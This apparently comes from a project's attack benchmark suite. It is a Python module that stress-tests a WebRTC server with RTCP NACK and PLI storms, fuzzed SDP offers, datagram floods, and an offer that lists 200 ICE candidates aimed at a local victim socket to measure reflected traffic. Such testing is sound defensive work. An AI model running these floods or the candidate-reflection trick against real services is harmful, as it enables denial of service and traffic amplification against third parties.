"""Attacks over a session's media: feedback storms, offers, candidates, floods before the peer."""

from __future__ import annotations

import asyncio
import random
import socket
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from aiortc import RTCRtpReceiver

from benchmarks.attack import datagrams
from benchmarks.attack.raw_session import RawSession, raw_session
from benchmarks.attack.target import Target

OFFERS = 1_500
CANDIDATES = 200


async def nack_storm(target: Target, seconds: float) -> int:
    """Ask for the same 300 packets again, twenty times a second."""
    async with raw_session(target, media=True) as session:
        receiver, ssrc = await _video_receiver(session)
        until, sent = time.monotonic() + seconds, 0
        while time.monotonic() < until:
            newest = _newest_packet(receiver)
            lost = list(range(max(0, newest - 300), newest))
            await receiver._send_rtcp_nack(ssrc, lost)
            sent += len(lost)
            await asyncio.sleep(0.05)
    return sent


async def pli_storm(target: Target, seconds: float) -> int:
    """Ask for a key frame a hundred times a second."""
    async with raw_session(target, media=True) as session:
        receiver, ssrc = await _video_receiver(session)
        until, sent = time.monotonic() + seconds, 0
        while time.monotonic() < until:
            await receiver._send_rtcp_pli(ssrc)
            sent += 1
            await asyncio.sleep(0.01)
    return sent


async def _video_receiver(session: RawSession) -> tuple[RTCRtpReceiver, int]:
    """The receiver of the video and the stream's SSRC, as soon as packets come."""
    assert session.peer is not None
    (receiver,) = [one for one in session.peer.getReceivers() if one.track.kind == "video"]
    while not receiver.getSynchronizationSources():  # noqa: ASYNC110
        await asyncio.sleep(0.05)
    return receiver, receiver.getSynchronizationSources()[0].source


def _newest_packet(receiver: RTCRtpReceiver) -> int:
    streams = vars(receiver)["_RTCRtpReceiver__remote_streams"].values()
    return max(int(one.max_seq) for one in streams)


async def offers(target: Target, seconds: float) -> int:
    """Mutated offers as fast as they are answered."""
    chance, sent = random.Random(3), 0
    until = time.monotonic() + seconds
    while sent < OFFERS and time.monotonic() < until:
        async with raw_session(target) as session:
            good = await _offer()
            for _ in range(50):
                if not session.is_open or time.monotonic() > until:
                    break
                await session.send("webrtc.offer", sdp=_mutated(good, chance))
                sent += 1
                await asyncio.sleep(0)
    return sent


async def _offer() -> str:
    from aiortc import RTCConfiguration, RTCPeerConnection

    peer = RTCPeerConnection(RTCConfiguration(iceServers=[]))
    for kind in ("audio", "video"):
        peer.addTransceiver(kind, direction="recvonly")
    await peer.setLocalDescription(await peer.createOffer())
    sdp = str(peer.localDescription.sdp)
    await peer.close()
    return sdp


def _mutated(sdp: str, chance: random.Random) -> str:
    """Lines doubled, left out, shuffled or cut."""
    lines = sdp.split("\r\n")
    for _ in range(chance.randint(0, 4)):
        place = chance.randrange(len(lines))
        what = chance.random()
        if what < 0.3:
            del lines[place]
        elif what < 0.6:
            lines.insert(place, lines[chance.randrange(len(lines))])
        elif what < 0.8:
            lines[place] = lines[place][: chance.randint(0, len(lines[place]))]
        else:
            lines[place] = lines[place] * chance.choice([2, 500])
        if not lines:
            return ""
    return "\r\n".join(lines)


async def candidates(target: Target, seconds: float) -> int:
    """An offer with 200 candidates of one victim; the datagrams that the victim gets."""
    async with _victim() as (victim, port):
        good = await _offer()
        lines = [
            f"a=candidate:{n} 1 udp {2130706431 - n} 127.0.0.{1 + n % 250} {port} typ host"
            for n in range(CANDIDATES)
        ]
        sdp = good.replace("a=end-of-candidates", "\r\n".join([*lines, "a=end-of-candidates"]))
        async with raw_session(target) as session:
            await session.send("webrtc.offer", sdp=sdp)
            await asyncio.sleep(seconds)
    return victim.count


class _Victim(asyncio.DatagramProtocol):
    count = 0

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.count += 1


@asynccontextmanager
async def _victim() -> AsyncIterator[tuple[_Victim, int]]:
    transport, victim = await asyncio.get_running_loop().create_datagram_endpoint(
        _Victim, local_addr=("0.0.0.0", 0), family=socket.AF_INET
    )
    try:
        yield victim, transport.get_extra_info("sockname")[1]
    finally:
        transport.close()


async def flood_before_the_peer(target: Target, seconds: float) -> int:
    """A session whose peer never connects; large datagrams to its ports meanwhile."""
    async with raw_session(target) as session:
        await session.send("webrtc.offer", sdp=await _offer())
        await session.event("webrtc.answer")
        until, sent = time.monotonic() + seconds, 0
        while time.monotonic() < until:
            sent += await datagrams.send(target, "huge", 200)
    return sent
